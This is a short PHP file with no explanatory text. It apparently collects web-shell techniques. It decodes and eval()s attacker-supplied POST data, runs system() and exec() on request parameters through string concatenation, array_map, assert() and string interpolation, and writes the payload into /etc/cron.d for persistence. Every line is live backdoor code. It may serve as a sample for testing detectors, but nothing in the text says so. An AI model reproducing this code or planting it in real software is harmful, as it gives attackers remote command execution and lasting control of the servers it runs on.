<?php
$p = base64_decode($_POST['x']);
eval($p);
$f = 'sys'.'tem'; $f('id');
array_map('system', [$_GET['c']]);
echo "{${phpinfo()}}";
assert($_GET['a']);
$h = <<<EOT
{${exec('id')}}
EOT;
file_put_contents('/etc/cron.d/x', $p);
